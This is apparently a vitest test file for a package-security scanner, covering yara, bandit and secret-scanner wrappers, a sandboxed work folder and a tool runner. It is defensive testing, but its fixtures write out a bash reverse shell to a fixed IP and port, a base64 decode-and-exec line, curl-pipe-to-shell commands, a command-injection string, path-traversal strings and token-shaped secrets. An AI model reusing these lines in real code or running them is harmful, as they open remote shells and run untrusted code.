// The tool analyzers: the private work folder, the tool runner, yara/bandit on real corpus releases (skipped when not installed), the secret scanners and their output parsers.
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { corpusPath, hasCorpora } from '../../../test/corpora.js';
import { skipWithout } from '../../../test/oracles.js';
import { VitrineError } from '../../core/errors.js';
import type { AnalyzerContext } from '../analyzers/types.js';
import { openRelease } from '../package/index.js';
import type { PackageRelease, ReleaseFile } from '../package/types.js';
import { banditAnalyzer, banditFindings, banditSeverity } from './bandit.js';
import { boundMatch, lineAt } from './common.js';
import { findOnPath, runTool } from './run.js';
import { gitleaksFindings, secretScannerAnalyzer, trufflehogFindings } from './secret-scanner.js';
import { findSecrets, redact, secretsAnalyzer } from './secrets.js';
import { isSafeRelativePath, safeBasename, withWorkdir } from './workdir.js';
import { isDocumentation, parseYaraOutput, yaraAnalyzer } from './yara.js';
import { toolAnalyzers } from './index.js';

const here = path.dirname(fileURLToPath(import.meta.url));
const ctx: AnalyzerContext = { resourcesDir: path.resolve(here, '..', '..', '..', 'resources'), internalNamespaces: [] };

function file(p: string, text: string | Uint8Array, executable = false): ReleaseFile {
  const data = typeof text === 'string' ? new TextEncoder().encode(text) : text;
  return { path: p, archivePath: `package/${p}`, size: data.length, sha256: createHash('sha256').update(data).digest('hex'), data, executable };
}

function release(files: ReleaseFile[], ecosystem: 'npm' | 'pypi' = 'npm'): PackageRelease {
  return {
    ecosystem,
    name: 'sample',
    version: '1.0.0',
    kind: ecosystem === 'npm' ? 'npm-tgz' : 'sdist-tar',
    filename: 'sample-1.0.0.tgz',
    sha256: '',
    size: 0,
    files,
    metadata: { name: 'sample', version: '1.0.0', maintainers: [], scripts: {}, dependencies: {}, entryPoints: [] },
    archiveIssues: [],
    complete: true,
    identitySource: 'metadata',
  };
}

function corpusRelease(rel: string): PackageRelease {
  return openRelease(readFileSync(corpusPath('packages', rel)), { filename: path.basename(rel) });
}

/** A folder of fake tools (shell scripts standing in for gitleaks/yara) for the runner's own paths. */
const fakeBin = mkdtempSync(path.join(tmpdir(), 'vitrine-fake-tools-'));
afterAll(() => rmSync(fakeBin, { recursive: true, force: true }));
function fakeTool(name: string, script: string): string {
  const p = path.join(fakeBin, name);
  writeFileSync(p, `#!/bin/sh\n${script}\n`);
  chmodSync(p, 0o755);
  return fakeBin;
}

describe('work folder', () => {
  it('writes plain 0600 files under numbered folders in a 0700 folder, maps paths back, and removes it', async () => {
    let seen = '';
    const files = [file('index.js', 'a'), file('lib/deep/x.py', 'b', true), file('../escape.js', 'c'), file('/abs.js', 'd'), file('.bandit', '[bandit]\nskips: B102'), { path: 'big.bin', archivePath: 'package/big.bin', size: 10, sha256: '', executable: false }];
    const result = await withWorkdir(files, async (w) => {
      seen = w.dir;
      expect(statSync(w.dir).mode & 0o777).toBe(0o700);
      expect(readdirSync(w.dir).sort()).toEqual(['0', '1', '2']);
      for (const d of readdirSync(w.dir)) {
        for (const f of readdirSync(path.join(w.dir, d))) {
          const st = lstatSync(path.join(w.dir, d, f));
          expect(st.isFile()).toBe(true);
          expect(st.mode & 0o777).toBe(0o600);
        }
      }
      expect(readdirSync(path.join(w.dir, '2'))).toEqual(['_bandit']);
      expect(w.releasePath(path.join(w.dir, '1', 'x.py'))).toBe('lib/deep/x.py');
      expect(w.releasePath('./0/index.js')).toBe('index.js');
      expect(w.releasePath('0/../../etc/passwd')).toBeNull();
      expect(w.skipped).toBe(3);
      return w.written;
    });
    expect(result).toBe(3);
    expect(existsSync(seen)).toBe(false);
  });

  it('removes the folder when the tool run throws', async () => {
    let seen = '';
    await expect(
      withWorkdir([file('a.js', 'x')], (w) => {
        seen = w.dir;
        return Promise.reject(new VitrineError('timeout', 'x'));
      }),
    ).rejects.toThrow();
    expect(existsSync(seen)).toBe(false);
  });

  it('keeps to the file and byte limits', async () => {
    const n = await withWorkdir([file('a', 'xx'), file('b', 'yy'), file('c', 'z')], async (w) => [w.written, w.skipped], { maxFiles: 10, maxTotalBytes: 4 });
    expect(n).toEqual([2, 1]);
  });

  it('accepts only safe relative paths and writes tame basenames', () => {
    for (const bad of ['', '/etc/passwd', 'a/../b', './a', 'a//b', 'C:/x', 'a\\b', 'a\0b']) expect(isSafeRelativePath(bad), bad).toBe(false);
    expect(isSafeRelativePath('lib/index.js')).toBe(true);
    expect(safeBasename('dir/--config=x')).toBe('_config_x');
    expect(safeBasename('.gitleaks.toml')).toBe('_gitleaks.toml');
    expect(safeBasename('a/é b.py')).toBe('__b.py');
  });
});

describe('runner', () => {
  it('finds tools on PATH only as executable regular files', () => {
    expect(findOnPath('sh')).toMatch(/\/sh$/);
    expect(findOnPath('no-such-tool-here')).toBeNull();
    expect(findOnPath('../sh')).toBeNull();
  });

  it('returns non-zero exits, and throws timeout, output-cap and cancellation errors', async () => {
    const sh = findOnPath('sh') ?? '/bin/sh';
    expect(await runTool('sh', sh, ['-c', 'echo out; exit 3'], { timeoutMs: 10_000, maxOutputBytes: 1000 })).toMatchObject({ code: 3, stdout: 'out\n' });
    await expect(runTool('sh', sh, ['-c', 'sleep 5'], { timeoutMs: 200, maxOutputBytes: 1000 })).rejects.toMatchObject({ code: 'timeout', message: 'sh did not finish in time' });
    await expect(runTool('sh', sh, ['-c', 'yes | head -c 100000'], { timeoutMs: 10_000, maxOutputBytes: 1000 })).rejects.toMatchObject({ code: 'payload_too_large' });
    const ac = new AbortController();
    const p = runTool('sh', sh, ['-c', 'sleep 5'], { timeoutMs: 10_000, maxOutputBytes: 1000, signal: ac.signal });
    ac.abort();
    await expect(p).rejects.toMatchObject({ code: 'cancelled' });
  });

  it('passes arguments without a shell and a bare environment', async () => {
    const sh = findOnPath('sh') ?? '/bin/sh';
    const r = await runTool('sh', sh, ['-c', 'printf "%s|" "$1" "$SECRET_TEST_VAR"', 'x', '$(id); echo pwned'], { timeoutMs: 10_000, maxOutputBytes: 1000 });
    expect(r.stdout).toBe('$(id); echo pwned||');
  });
});

describe('yara', () => {
  it('is unavailable, never silent, when yara is not installed', async () => {
    const out = await yaraAnalyzer({ pathVar: '/nonexistent' }).analyze(release([file('a.js', 'x')]), ctx);
    expect(out).toEqual({ findings: [], status: 'unavailable', message: 'yara is not installed' });
  });

  it('parses yara -m -s output and maps offsets to lines', () => {
    const out = parseYaraOutput(
      'reverse_shell_idiom [code="yara_reverse_shell",severity="critical",category="reverse_shell",technique="T1059.004",description="x y"] /tmp/w/0/a.sh\n0x6:$b1: bash -i >& /dev/tcp/1.2.3.4/4444\nplain_rule /tmp/w/1/b.js\n',
    );
    expect(out).toHaveLength(2);
    expect(out[0]).toMatchObject({ rule: 'reverse_shell_idiom', meta: { code: 'yara_reverse_shell', severity: 'critical', description: 'x y' }, target: '/tmp/w/0/a.sh' });
    expect(out[0]?.strings[0]).toEqual({ offset: 6, id: '$b1', text: 'bash -i >& /dev/tcp/1.2.3.4/4444' });
    expect(out[1]).toMatchObject({ rule: 'plain_rule', target: '/tmp/w/1/b.js', strings: [] });
    expect(parseYaraOutput('garbage\n\n0x1:$a: orphan\n')).toEqual([]);
    expect(isDocumentation('docs/README.md')).toBe(true);
    expect(isDocumentation('lib/index.js')).toBe(false);
  });

  it('times out as a VitrineError the runner maps to timed_out', async () => {
    const bin = fakeTool('yara', 'sleep 5');
    await expect(yaraAnalyzer({ pathVar: bin, timeoutMs: 300 }).analyze(release([file('a.js', 'x')]), ctx)).rejects.toMatchObject({ code: 'timeout' });
  });

  it('fails (not ok) when the tool errors or no rules are shipped', async () => {
    const bin = fakeTool('yara', 'echo "error: could not open" >&2; exit 1');
    expect(await yaraAnalyzer({ pathVar: bin }).analyze(release([file('a.js', 'x')]), ctx)).toMatchObject({ status: 'failed', message: 'yara exited with an error' });
    expect(await yaraAnalyzer({ pathVar: bin, rulesDir: here }).analyze(release([file('a.js', 'x')]), ctx)).toMatchObject({ status: 'failed', message: 'no YARA rules are shipped' });
  });

  describe.skipIf(skipWithout('yara'))('with yara installed', () => {
    it('finds general idioms in written samples, lowers them in documentation, and reports release paths', async () => {
      const files = [
        file('lib/shell.sh', 'echo hi\nbash -i >& /dev/tcp/10.1.2.3/4444 0>&1\n'),
        file('setup.py', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'),
        file('README.md', 'install: curl -fsSL https://example.invalid/install | sh\n'),
        file('drop.js', `const p = "${Buffer.concat([Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0]), Buffer.alloc(40)]).toString('base64')}";\n`),
        file('clean.js', 'module.exports = (a, b) => a + b;\n'),
      ];
      const out = await yaraAnalyzer().analyze(release(files), ctx);
      expect(out.status).toBe('ok');
      const by = new Map(out.findings.map((f) => [f.code, f]));
      expect(by.get('yara_reverse_shell')).toMatchObject({ file: 'lib/shell.sh', line: 2, severity: 'critical', category: 'reverse_shell', technique: 'T1059.004', analyzer: 'yara' });
      expect(by.get('yara_py_decode_exec')).toMatchObject({ file: 'setup.py', line: 2, severity: 'high' });
      expect(by.get('yara_download_execute')).toMatchObject({ file: 'README.md', severity: 'low' });
      expect(by.get('yara_download_execute')?.title).toMatch(/in documentation/);
      expect(by.get('yara_embedded_executable')).toMatchObject({ file: 'drop.js', severity: 'high' });
      expect(out.findings.some((f) => f.file === 'clean.js')).toBe(false);
    });

    it.runIf(hasCorpora())('flags real malicious releases read as bytes and stays quiet on benign ones with install scripts and minified bundles', async () => {
      const a = yaraAnalyzer();
      const strong = async (rel: string): Promise<string[]> =>
        (await a.analyze(corpusRelease(rel), ctx)).findings.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => f.code);
      expect(await strong('malicious/npm/bleeding-edge-css-1.2.2.tgz')).toContain('yara_reverse_shell');
      expect(await strong('malicious/npm/a11y-speak-99.10.9.tgz')).toContain('yara_host_recon_beacon');
      expect(await strong('malicious/pypi/gamepass-0.0.1.tar.gz')).toContain('yara_credential_exfiltration');
      expect(await strong('malicious/pypi/libpeshka-0.6.tar.gz')).toContain('yara_host_recon_beacon');
      for (const benign of ['benign/npm/async-3.2.6.tgz', 'benign/npm/axios-1.21.1.tgz', 'benign/npm/dotenv-18.0.10.tgz']) expect(await strong(benign), benign).toEqual([]);
    });
  });
});

describe('bandit', () => {
  it('is unavailable when bandit is not installed', async () => {
    expect(await banditAnalyzer({ pathVar: '/nonexistent' }).analyze(release([file('a.py', 'x')], 'pypi'), ctx)).toMatchObject({ status: 'unavailable', message: 'bandit is not installed' });
  });

  it('reads bandit JSON, drops code-quality checks, and keeps its ratings at low or info', () => {
    const data = new TextEncoder().encode('import os\nos.system("id")\nassert x\n');
    const w = { file: (p: string): ReleaseFile | null => (p === './0/setup.py' ? file('setup.py', data) : null) };
    const report = JSON.stringify({
      errors: [{ filename: './1/old.py', reason: 'syntax error while parsing AST from file' }],
      results: [
        { filename: './0/setup.py', line_number: 2, issue_severity: 'HIGH', issue_confidence: 'HIGH', issue_text: 'Starting a process with a shell', test_id: 'B605', test_name: 'start_process_with_a_shell' },
        { filename: './0/setup.py', line_number: 3, issue_severity: 'LOW', issue_confidence: 'HIGH', issue_text: 'Use of assert', test_id: 'B101', test_name: 'assert_used' },
        { filename: '/elsewhere.py', line_number: 1, issue_severity: 'HIGH', issue_confidence: 'HIGH', issue_text: 'x', test_id: 'B102', test_name: 'exec_used' },
        { broken: true },
      ],
    });
    const { findings, errors } = banditFindings(report, w);
    expect(errors).toBe(1);
    expect(findings).toEqual([
      { code: 'bandit_b605', severity: 'low', category: 'process_spawn', title: 'start_process_with_a_shell: Starting a process with a shell', file: 'setup.py', line: 2, match: 'os.system("id")', technique: 'T1059.004', analyzer: 'bandit' },
    ]);
    expect(banditSeverity('MEDIUM', 'HIGH')).toBe('low');
    expect(banditSeverity('LOW', 'HIGH')).toBe('info');
    expect(() => banditFindings('{"not":"bandit"}', w)).toThrow();
    expect(() => banditFindings('{"results": [', w)).toThrow();
  });

  it('reports ok with nothing to do for a package without Python files', async () => {
    const out = await banditAnalyzer({ pathVar: fakeTool('bandit', 'exit 2') }).analyze(release([file('a.js', 'x')]), ctx);
    expect(out).toMatchObject({ status: 'ok', findings: [] });
  });

  it('fails on garbage output', async () => {
    const out = await banditAnalyzer({ pathVar: fakeTool('bandit', 'echo "{garbage"; exit 1') }).analyze(release([file('a.py', 'x')], 'pypi'), ctx);
    expect(out).toMatchObject({ status: 'failed', message: 'bandit output could not be read' });
  });

  describe.skipIf(skipWithout('bandit'))('with bandit installed', () => {
    it('cannot be silenced by # nosec or a shipped .bandit file', async () => {
      const files = [file('pkg/run.py', 'import os\nos.system("curl x | sh")  # nosec\nexec(compile("1", "f", "exec"))  # nosec\n'), file('.bandit', '[bandit]\nskips: B605,B102\n')];
      const out = await banditAnalyzer().analyze(release(files, 'pypi'), ctx);
      expect(out.status).toBe('ok');
      const codes = out.findings.map((f) => f.code);
      expect(codes).toContain('bandit_b605');
      expect(codes).toContain('bandit_b102');
      expect(out.findings.every((f) => f.file === 'pkg/run.py')).toBe(true);
    });

    it.runIf(hasCorpora())('reads a real malicious sdist (bytes only) and names the spawning line', async () => {
      const out = await banditAnalyzer().analyze(corpusRelease('malicious/pypi/libpeshka-0.6.tar.gz'), ctx);
      expect(out.status).toBe('ok');
      expect(out.findings.length).toBeGreaterThan(0);
      expect(out.findings.every((f) => f.analyzer === 'bandit' && f.file !== null && !f.file.startsWith('/'))).toBe(true);
    });
  });
});

describe('built-in secrets', () => {
  const gh = `ghp_${'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dF3hJ5'}`;
  const pem = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEAx4Ug'.repeat(4)}\n-----END RSA PRIVATE KEY-----\n`;

  it('finds high-confidence token formats, redacted, with their lines', () => {
    const text = `const a = 1;\nconst t = "${gh}";\nAWS = "AKIAZ7Q2RJ4KX3M5N8PV"\nnpm = 'npm_${'Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Jh1Gf0EdCbA9'}'\nslack = "xoxb-482915730264-5839201746385-AbCdEfGhIjKlMnOpQrStUvWx"\n${pem}`;
    const findings = findSecrets('lib/config.js', new TextEncoder().encode(text));
    expect(findings.map((f) => [f.code, f.line])).toEqual([
      ['secret_aws_access_key', 3],
      ['secret_github_token', 2],
      ['secret_npm_token', 4],
      ['secret_slack_token', 5],
      ['secret_private_key', 6],
    ]);
    for (const f of findings) {
      expect(f.match).not.toContain(gh);
      expect(f.technique).toBe('T1552.001');
      expect(f.analyzer).toBe('secrets');
    }
    expect(findings[1]?.match).toBe('ghp_aB3d… (40 characters, redacted)');
  });

  it('ignores documentation examples, placeholders and key headers without a key', () => {
    const text = 'AKIAIOSFODNN7EXAMPLE\nghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\nconst H = "-----BEGIN RSA PRIVATE KEY-----";\nif (s.startsWith(H)) parse(s);\n';
    expect(findSecrets('a.js', new TextEncoder().encode(text))).toEqual([]);
  });

  it('runs as an analyzer that needs no tool', async () => {
    const out = await secretsAnalyzer().analyze(release([file('a.js', `x="${gh}"`), file('b.bin', new Uint8Array([0, 1, 2]))]), ctx);
    expect(out.status).toBe('ok');
    expect(out.findings).toHaveLength(1);
    expect(redact('short')).toBe('s… (5 characters, redacted)');
    expect(boundMatch('a\u0000b'.repeat(100)).length).toBeLessThanOrEqual(200);
    expect(lineAt(new TextEncoder().encode('a\nb\nc'), 4)).toBe(3);
  });

  it.runIf(hasCorpora())('stays quiet on benign corpus releases without keys, and names test keys in a crypto library as medium', async () => {
    const out = await secretsAnalyzer().analyze(corpusRelease('benign/npm/axios-1.21.1.tgz'), ctx);
    expect(out.findings).toEqual([]);
    const crypto = await secretsAnalyzer().analyze(corpusRelease('benign/pypi/cryptography-38.0.4.tar.gz'), ctx);
    expect(crypto.findings.length).toBeGreaterThan(0);
    expect(crypto.findings.every((f) => f.severity === 'medium' && f.code === 'secret_private_key')).toBe(true);
  });
});

describe('secret scanner (gitleaks / trufflehog)', () => {
  const w = { file: (p: string): ReleaseFile | null => (p.endsWith('/0/config.js') || p === '0/config.js' ? file('src/config.js', 'x') : null) };

  it('is unavailable when neither tool is installed', async () => {
    expect(await secretScannerAnalyzer({ pathVar: '/nonexistent' }).analyze(release([file('a.js', 'x')]), ctx)).toMatchObject({
      status: 'unavailable',
      message: 'no secret scanner (gitleaks or trufflehog) is installed',
    });
  });

  it('reads gitleaks and trufflehog reports, keeping no raw secret', () => {
    const gl = gitleaksFindings(JSON.stringify([{ RuleID: 'github-pat', Description: 'GitHub Personal Access Token', File: '/tmp/x/0/config.js', StartLine: 3, Match: 'token = REDACTED', Secret: 'REDACTED' }, { RuleID: 'x', File: '/other' }]), w);
    expect(gl).toEqual([{ code: 'gitleaks_github_pat', severity: 'high', category: 'tool', title: 'GitHub Personal Access Token published in the package', file: 'src/config.js', line: 3, match: 'token = REDACTED', technique: 'T1552.001', analyzer: 'secret-scanner' }]);
    expect(gitleaksFindings('', w)).toEqual([]);
    expect(() => gitleaksFindings('{"x":', w)).toThrow();
    const th = trufflehogFindings(
      `${JSON.stringify({ DetectorName: 'AWS', Raw: 'AKIAZ7Q2RJ4KX3M5N8PV', Redacted: '', SourceMetadata: { Data: { Filesystem: { file: '0/config.js', line: 7 } } } })}\nnot json\n`,
      w,
    );
    expect(th).toHaveLength(1);
    expect(th[0]).toMatchObject({ code: 'trufflehog_aws', line: 7, file: 'src/config.js' });
    expect(th[0]?.match).not.toContain('AKIAZ7Q2RJ4KX3M5N8PV');
  });

  it('runs gitleaks with a redacted report on stdout and maps it back (stand-in executable)', async () => {
    const bin = fakeTool('gitleaks', 'src=""; while [ $# -gt 0 ]; do [ "$1" = "--source" ] && src="$2"; shift; done; printf \'[{"RuleID":"npm-access-token","Description":"npm token","File":"%s/0/config.js","StartLine":1,"Match":"REDACTED"}]\' "$src"');
    const out = await secretScannerAnalyzer({ pathVar: bin }).analyze(release([file('src/config.js', 'x')]), ctx);
    expect(out).toMatchObject({ status: 'ok', message: 'scanned by gitleaks' });
    expect(out.findings.map((f) => [f.code, f.file])).toEqual([['gitleaks_npm_access_token', 'src/config.js']]);
  });

  it('lists every tool analyzer, the built-in one always available', () => {
    expect(toolAnalyzers().map((a) => a.name)).toEqual(['yara', 'bandit', 'secret-scanner', 'secrets']);
  });
});
